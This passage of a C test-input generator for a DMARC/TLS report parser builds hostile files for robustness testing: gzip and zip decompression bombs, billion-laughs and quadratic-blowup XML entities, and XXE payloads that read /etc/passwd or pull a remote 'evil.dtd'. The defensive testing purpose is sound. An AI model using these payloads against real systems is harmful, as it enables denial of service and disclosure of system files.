        " compressed=%" PRIu32 "\n", st.records, st.messages, e.usize,
        e.csize);
}

/* ---- bombs ---- */

/*
 * What a bomb inflates to: 1 GiB of zeros, or (the "-xml" kinds) the head
 * of a plausible report followed by 1 GiB of spaces, which a parser has
 * to keep reading, so the decompressor's caps are what stops it.
 */
static const char bomb_head[] =
    XML_DECL "\n"
    "<feedback>\n"
    "  <report_metadata>\n"
    "    <org_name>mkinput.example</org_name>\n"
    "    <email>noreply-dmarc-support@mkinput.example</email>\n"
    "    <report_id>bomb</report_id>\n"
    "    <date_range>\n"
    "      <begin>1700006400</begin>\n"
    "      <end>1700092799</end>\n"
    "    </date_range>\n"
    "  </report_metadata>\n"
    "  <policy_published>\n"
    "    <domain>example.com</domain>\n"
    "    <p>reject</p>\n"
    "  </policy_published>\n";

struct bomb {
    unsigned char *head;        /* raw deflate of bomb_head, or NULL */
    size_t         head_len;
    unsigned char *block;       /* raw deflate of MK_BOMB_BLOCK fill bytes */
    size_t         len;         /* byte-aligned (full flush), not final */
    uint32_t       crc;         /* of everything it inflates to */
    uint64_t       size;        /* bytes it inflates to */
};

/*
 * bomb_flush - (p, n) as raw deflate ending in Z_FULL_FLUSH: byte-aligned,
 * not final, and referring to nothing before it, so such pieces can be
 * concatenated and repeated at will.  Caller frees.
 */
static unsigned char *
bomb_flush(const unsigned char *p, size_t n, size_t *len)
{
    unsigned char *z;
    z_stream       zs;
    uLong          cap;

    memset(&zs, 0, sizeof(zs));
    if (deflateInit2(&zs, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY) !=
        Z_OK)
        die("deflateInit2 failed");
    cap = deflateBound(&zs, (uLong)n) + 64;
    z = xmalloc(cap);
    zs.next_in = (unsigned char *)p;
    zs.avail_in = (uInt)n;
    zs.next_out = z;
    zs.avail_out = (uInt)cap;
    if (deflate(&zs, Z_FULL_FLUSH) != Z_OK || zs.avail_in != 0 ||
        zs.avail_out == 0)
        die("deflate of a bomb block failed");
    *len = cap - zs.avail_out;
    deflateEnd(&zs);
    return z;
}

/*
 * bomb_make - deflate MK_BOMB_BLOCK fill bytes once; the stream is then
 * [head] + block * MK_BOMB_COUNT + a final empty block, and its CRC comes
 * from crc32_combine() without inflating anything.
 */
static void
bomb_make(struct bomb *b, bool xml)
{
    unsigned char *fill = xmalloc(MK_BOMB_BLOCK);
    uint32_t       c1, i;

    memset(b, 0, sizeof(*b));
    memset(fill, xml ? ' ' : 0, MK_BOMB_BLOCK);
    b->block = bomb_flush(fill, MK_BOMB_BLOCK, &b->len);
    c1 = (uint32_t)crc32(0, fill, MK_BOMB_BLOCK);
    free(fill);
    if (xml) {
        b->head = bomb_flush((const unsigned char *)bomb_head,
            sizeof(bomb_head) - 1, &b->head_len);
        b->crc = (uint32_t)crc32(0, (const unsigned char *)bomb_head,
            sizeof(bomb_head) - 1);
        b->size = sizeof(bomb_head) - 1;
    }
    for (i = 0; i < MK_BOMB_COUNT; i++)
        b->crc = (uint32_t)crc32_combine(b->crc, c1, MK_BOMB_BLOCK);
    b->size += (uint64_t)MK_BOMB_BLOCK * MK_BOMB_COUNT;
}

/* bomb_free - release what bomb_make made */
static void
bomb_free(struct bomb *b)
{
    free(b->head);
    free(b->block);
}

/* bomb_deflate_len - bytes of the raw deflate stream */
static uint64_t
bomb_deflate_len(const struct bomb *b)
{
    return b->head_len + (uint64_t)b->len * MK_BOMB_COUNT + 2;
}

/* bomb_deflate - the raw deflate stream of the bomb */
static void
bomb_deflate(struct out *o, const struct bomb *b)
{
    /* BFINAL=1, BTYPE=01 (fixed), end-of-block: an empty last block */
    static const unsigned char last[2] = { 0x03, 0x00 };
    uint32_t                   i;

    if (b->head != NULL)
        out_write(o, b->head, b->head_len);
    for (i = 0; i < MK_BOMB_COUNT; i++)
        out_write(o, b->block, b->len);
    out_write(o, last, sizeof(last));
}

/* bomb_gzip - the bomb as one gzip member (RFC 1952) */
static void
bomb_gzip(struct out *o, const struct bomb *b)
{
    /* magic, deflate, no flags, no mtime, max compression, Unix */
    static const unsigned char hdr[10] = { 0x1f, 0x8b, 8, 0, 0, 0, 0, 0,
        2, 3 };
    unsigned char              trailer[8];

    out_write(o, hdr, sizeof(hdr));
    bomb_deflate(o, b);
    put32(trailer, b->crc);
    put32(trailer + 4, (uint32_t)b->size);      /* ISIZE: size mod 2^32 */
    out_write(o, trailer, sizeof(trailer));
}

/* gzip_bomb - kinds "gzip-bomb" and "gzip-bomb-xml" */
static void
gzip_bomb(const char *path, bool xml)
{
    struct bomb b;
    struct out  f;

    bomb_make(&b, xml);
    out_file(&f, path);
    bomb_gzip(&f, &b);
    out_close(&f);
    bomb_free(&b);
    printf("bytes=%" PRIu64 " compressed=%" PRIu64 "\n", b.size, f.total);
}

/*
 * gzip_nested_bomb - kinds "gzip-nested-bomb" and "gzip-nested-bomb-xml":
 * the gzip bomb, gzipped again
 */
static void
gzip_nested_bomb(const char *path, bool xml)
{
    struct bomb b;
    struct out  f, gz;

    bomb_make(&b, xml);
    out_file(&f, path);
    out_deflate(&gz, &f, 15 + 16);
    bomb_gzip(&gz, &b);
    out_close(&gz);
    out_close(&f);
    bomb_free(&b);
    printf("bytes=%" PRIu64 " inner=%" PRIu64 " compressed=%" PRIu64 "\n",
        b.size, gz.total, f.total);
}

/*
 * zip_bomb - kinds "zip-bomb" (truthful central directory), "zip-bomb-lie"
 * and "zip-bomb-lie-xml" (both headers claim 4 KiB, so only the reader's
 * own count can catch it); the member is report.xml
 */
static void
zip_bomb(const char *path, bool lie, bool xml)
{
    struct zip_entry e;
    struct bomb      b;
    struct out       f;

    bomb_make(&b, xml);
    memset(&e, 0, sizeof(e));
    snprintf(e.name, sizeof(e.name), "report.xml");
    e.method = 8;
    e.crc = b.crc;
    e.csize = (uint32_t)bomb_deflate_len(&b);
    e.usize = lie ? 4096 : (uint32_t)b.size;
    out_file(&f, path);
    zip_local(&f, &e);
    bomb_deflate(&f, &b);
    zip_central(&f, &e, 1);
    out_close(&f);
    bomb_free(&b);
    printf("bytes=%" PRIu64 " declared=%" PRIu32 " compressed=%" PRIu64
        "\n", b.size, e.usize, f.total);
}

/* ---- entity attacks and other hostile XML ---- */

/* entity_doc - a 2-record report with prolog and org_name as given */
static void
entity_doc(struct out *o, const char *prolog, const char *org)
{
    struct dmarc_opts  opt = { .decl = XML_DECL, .prolog = prolog,
        .org_raw = org, .seed = 3, .records = 2 };
    struct dmarc_stats st;

    dmarc_write(o, &opt, &st);
}

/* entity_file - write entity_doc to path and say how big it is */
static void
entity_file(const char *path, const char *prolog, const char *org)
{
    struct out f;

    out_file(&f, path);
    entity_doc(&f, prolog, org);
    out_close(&f);
    printf("bytes=%" PRIu64 "\n", f.total);
}

static const char laughs_dtd[] =
    "<!DOCTYPE feedback [\n"
    "  <!ENTITY lol \"lol\">\n"
    "  <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
    "  <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"
    "&lol1;&lol1;\">\n"
    "  <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"
    "&lol2;&lol2;\">\n"
    "  <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"
    "&lol3;&lol3;\">\n"
    "  <!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"
    "&lol4;&lol4;\">\n"
    "  <!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"
    "&lol5;&lol5;\">\n"
    "  <!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"
    "&lol6;&lol6;\">\n"
    "  <!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"
    "&lol7;&lol7;\">\n"
    "  <!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;"
    "&lol8;&lol8;\">\n"
    "]>\n";

/* quadratic_blowup - one 50 KB entity referenced 50,000 times */
static void
quadratic_blowup(const char *path)
{
    static const char head[] = "<!DOCTYPE feedback [\n  <!ENTITY a \"";
    static const char tail[] = "\">\n]>\n";
    size_t            vlen = 50000, refs = 50000, i;
    char             *prolog, *org;

    prolog = xmalloc(sizeof(head) + vlen + sizeof(tail));
    memcpy(prolog, head, sizeof(head) - 1);
    memset(prolog + sizeof(head) - 1, 'a', vlen);
    memcpy(prolog + sizeof(head) - 1 + vlen, tail, sizeof(tail));
    org = xmalloc(refs * 3 + 1);
    for (i = 0; i < refs; i++)
        memcpy(org + 3 * i, "&a;", 3);
    org[refs * 3] = '\0';
    entity_file(path, prolog, org);
    free(prolog);
    free(org);
}

/*
 * xxe_late - the billion laughs behind a 16 KB comment, so the DOCTYPE
 * lies past any fixed-size look at the prolog
 */
static void
xxe_late(const char *path)
{
    static const char open[] = "<!-- ";
    static const char close[] = " -->\n";
    size_t            pad = 16384;
    size_t            n = sizeof(open) - 1 + pad + sizeof(close) - 1 +
        sizeof(laughs_dtd);
    char             *prolog = xmalloc(n), *p = prolog;

    memcpy(p, open, sizeof(open) - 1);
    p += sizeof(open) - 1;
    memset(p, 'x', pad);
    p += pad;
    memcpy(p, close, sizeof(close) - 1);
    p += sizeof(close) - 1;
    memcpy(p, laughs_dtd, sizeof(laughs_dtd));
    entity_file(path, prolog, "&lol9;");
    free(prolog);
}

/* xxe_utf16 - kind "xxe-utf16": the file entity, in UTF-16LE */
static void
xxe_utf16(const char *path)
{
    struct dmarc_opts  opt = { .decl = "<?xml version=\"1.0\" "
        "encoding=\"UTF-16\"?>", .prolog = "<!DOCTYPE feedback [\n"
        "  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n]>\n",
        .org_raw = "&xxe;", .seed = 3, .records = 2 };
    struct dmarc_stats st;
    struct out         m, f;

    out_mem(&m);
    dmarc_write(&m, &opt, &st);
    out_file(&f, path);
    utf16_write(&f, m.mem, m.len, false);
    out_close(&f);
    free(m.mem);
    printf("bytes=%" PRIu64 "\n", f.total);
}

/* deep_xml - kind "deep-xml": n nested elements inside <feedback> */
static void
deep_xml(const char *path, uint64_t n)
{
    struct dmarc_opts  opt = { .decl = XML_DECL, .seed = 5, .records = 1 };
    struct dmarc_stats st;
    struct out         f, m;
    uint64_t           i;

    out_mem(&m);
    for (i = 0; i < n; i++)
        out_str(&m, "<extension>");
    for (i = 0; i < n; i++)
        out_str(&m, "</extension>");
    out_write(&m, "\n", 2);                /* with its NUL */
    opt.extra = (const char *)m.mem;
    out_file(&f, path);
    dmarc_write(&f, &opt, &st);
    out_close(&f);
    free(m.mem);
    printf("depth=%" PRIu64 " bytes=%" PRIu64 "\n", n, f.total);
}

/* deep_json - kind "deep-json": a TLS report whose policies nest n deep */
static void
deep_json(const char *path, uint64_t n)
{
    struct out f;
    uint64_t   i;

    out_file(&f, path);
    out_str(&f,
        "{\n"
        "  \"organization-name\": \"mkinput.example\",\n"
        "  \"date-range\": {\n"
        "    \"start-datetime\": \"2023-11-15T00:00:00Z\",\n"
        "    \"end-datetime\": \"2023-11-15T23:59:59Z\"\n"
        "  },\n"
        "  \"contact-info\": \"smtp-tls-reporting@mkinput.example\",\n"
        "  \"report-id\": \"deep\",\n"
        "  \"policies\": ");
    for (i = 0; i < n; i++)
        out_write(&f, "[", 1);
    for (i = 0; i < n; i++)
        out_write(&f, "]", 1);
    out_str(&f, "\n}\n");
    out_close(&f);
    printf("depth=%" PRIu64 " bytes=%" PRIu64 "\n", n, f.total);
}

/* truncated_gz - kind "truncated-gz": a 2000-record dmarc-gz cut in half */
static void
truncated_gz(const char *path)
{
    struct dmarc_opts  opt = { .decl = XML_DECL, .seed = 1,
        .records = 2000 };
    struct dmarc_stats st;
    struct out         m, gz, f;

    out_mem(&m);
    out_deflate(&gz, &m, 15 + 16);
    dmarc_write(&gz, &opt, &st);
    out_close(&gz);
    out_file(&f, path);
    out_write(&f, m.mem, m.len / 2);
    out_close(&f);
    printf("bytes=%" PRIu64 " full=%zu\n", f.total, m.len);
    free(m.mem);
}

/*
 * junk - kind "junk": n random bytes whose first byte starts nothing we
 * recognise (no '<', '{', gzip or zip magic, BOM, NUL or white space)
 */
static void
junk(const char *path, uint64_t n)
{
    struct rng    r = { MK_SEED ^ 0x6a756e6bull };
    unsigned char buf[4096];
    struct out    f;
    uint64_t      done = 0;
    size_t        i, k;

    out_file(&f, path);
    while (done < n) {
        k = n - done < sizeof(buf) ? (size_t)(n - done) : sizeof(buf);
        for (i = 0; i < k; i++)
            buf[i] = (unsigned char)rng_next(&r);
        if (done == 0)
            while (memchr("<{\x1fP \t\r\n\xef\xfe\xff", buf[0], 11) !=
                NULL || buf[0] == 0)
                buf[0] = (unsigned char)rng_next(&r);
        out_write(&f, buf, k);
        done += k;
    }
    out_close(&f);
    printf("bytes=%" PRIu64 "\n", f.total);
}

/* ---- command line ---- */

static const char usage_text[] =
    "usage: mkinput KIND OUTFILE [N]\n"
    "kinds: dmarc N, dmarc-gz N, zip-dmarc N, dmarc-longtext N, dmarc-bom,\n"
    "  dmarc-utf16le, dmarc-utf16be, tlsrpt N, zip-multi N, gzip-bomb,\n"
    "  gzip-bomb-xml, zip-bomb, zip-bomb-lie, zip-bomb-lie-xml,\n"
    "  gzip-nested-bomb, gzip-nested-bomb-xml, xxe-file, xxe-net,\n"
    "  xxe-param, xxe-late, xxe-utf16, billion-laughs, quadratic-blowup,\n"
    "  deep-xml N, deep-json N, truncated-gz, junk N\n";

/* parse_n - the decimal count argument */
static uint64_t
parse_n(const char *s)
{
    char              *end;
    unsigned long long v;

    if (s == NULL)
        die("this kind needs N\n%s", usage_text);
    if (*s < '0' || *s > '9')
        die("bad N \"%s\"", s);
    errno = 0;
    v = strtoull(s, &end, 10);
    if (errno != 0 || *end != '\0' || v > 100000000ull)
        die("bad N \"%s\" (0 .. 100000000)", s);
    return v;
}

int
main(int argc, char **argv)
{
    const char *kind, *path, *narg;

    if (argc < 3 || argc > 4) {
        fputs(usage_text, stderr);
        return 2;
    }
    kind = argv[1];
    path = argv[2];
    narg = argc == 4 ? argv[3] : NULL;

    if (strcmp(kind, "dmarc") == 0)
        dmarc_plain(path, parse_n(narg));
    else if (strcmp(kind, "dmarc-gz") == 0)
        dmarc_gz(path, parse_n(narg));
    else if (strcmp(kind, "zip-dmarc") == 0)
        zip_dmarc(path, parse_n(narg));
    else if (strcmp(kind, "dmarc-longtext") == 0)
        dmarc_longtext(path, parse_n(narg));
    else if (strcmp(kind, "dmarc-bom") == 0)
        dmarc_bom(path);
    else if (strcmp(kind, "dmarc-utf16le") == 0)
        dmarc_utf16(path, false);
    else if (strcmp(kind, "dmarc-utf16be") == 0)
        dmarc_utf16(path, true);
    else if (strcmp(kind, "tlsrpt") == 0)
        tlsrpt(path, parse_n(narg));
    else if (strcmp(kind, "zip-multi") == 0)
        zip_multi(path, parse_n(narg));
    else if (strcmp(kind, "gzip-bomb") == 0)
        gzip_bomb(path, false);
    else if (strcmp(kind, "gzip-bomb-xml") == 0)
        gzip_bomb(path, true);
    else if (strcmp(kind, "zip-bomb") == 0)
        zip_bomb(path, false, false);
    else if (strcmp(kind, "zip-bomb-lie") == 0)
        zip_bomb(path, true, false);
    else if (strcmp(kind, "zip-bomb-lie-xml") == 0)
        zip_bomb(path, true, true);
    else if (strcmp(kind, "gzip-nested-bomb") == 0)
        gzip_nested_bomb(path, false);
    else if (strcmp(kind, "gzip-nested-bomb-xml") == 0)
        gzip_nested_bomb(path, true);
    else if (strcmp(kind, "xxe-file") == 0)
        entity_file(path, "<!DOCTYPE feedback [\n"
            "  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n]>\n", "&xxe;");
    else if (strcmp(kind, "xxe-net") == 0)
        entity_file(path, "<!DOCTYPE feedback [\n"
            "  <!ENTITY xxe SYSTEM \"http://127.0.0.1:9/x\">\n]>\n",
            "&xxe;");
    else if (strcmp(kind, "xxe-param") == 0)
        entity_file(path, "<!DOCTYPE feedback [\n"
            "  <!ENTITY % remote SYSTEM \"http://127.0.0.1:9/evil.dtd\">\n"
            "  %remote;\n]>\n", "&exfil;");
    else if (strcmp(kind, "xxe-late") == 0)
        xxe_late(path);
    else if (strcmp(kind, "xxe-utf16") == 0)
        xxe_utf16(path);
    else if (strcmp(kind, "billion-laughs") == 0)
        entity_file(path, laughs_dtd, "&lol9;");
    else if (strcmp(kind, "quadratic-blowup") == 0)
        quadratic_blowup(path);
    else if (strcmp(kind, "deep-xml") == 0)
        deep_xml(path, parse_n(narg));
    else if (strcmp(kind, "deep-json") == 0)
        deep_json(path, parse_n(narg));
    else if (strcmp(kind, "truncated-gz") == 0)
        truncated_gz(path);
    else if (strcmp(kind, "junk") == 0)
        junk(path, parse_n(narg));
    else {
        fprintf(stderr, "mkinput: unknown kind \"%s\"\n%s", kind,
            usage_text);
        return 2;
    }
    if (fflush(stdout) != 0)
        return 1;
    return 0;
}
